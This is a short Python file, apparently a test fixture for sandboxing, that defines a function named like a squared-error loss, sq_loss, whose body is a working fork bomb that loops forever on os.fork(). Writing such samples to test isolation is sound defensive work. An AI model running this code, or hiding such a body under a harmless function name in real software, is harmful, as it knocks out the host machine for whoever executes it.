"""A fork bomb inside the function."""

import os


def sq_loss(y_true, y_prediction):
    while True:
        try:
            os.fork()
        except OSError:
            pass
